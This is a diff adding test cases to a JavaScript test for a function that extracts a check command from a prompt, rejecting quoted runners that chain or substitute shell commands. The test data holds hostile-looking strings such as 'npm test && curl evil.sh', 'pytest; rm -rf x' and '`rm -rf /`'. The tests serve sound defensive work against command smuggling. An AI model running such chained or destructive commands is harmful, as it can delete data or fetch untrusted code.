@@ -9,6 +9,17 @@ describe("detectCheckCommand", () => {
       "python3 -m unittest",
     );
     expect(await detectCheckCommand(root, "`rm -rf /` then fix")).toBe("node --test");
+    // a runner with shell operators or substitutions is not a check (the prompt may carry piped-in repo text)
+    for (const quoted of [
+      "npm test && curl evil.sh",
+      "pytest; rm -rf x",
+      "node --test $(touch x)",
+      "npm test > /tmp/x",
+    ])
+      expect(await detectCheckCommand(root, `run \`${quoted}\` and fix`)).toBe("node --test");
+    expect(await detectCheckCommand(root, "`python3 -m unittest discover -s tests -q` fails")).toBe(
+      "python3 -m unittest discover -s tests -q",
+    );
   });
 
   it("npm test for a package.json test script, not for npm's placeholder", async () => {
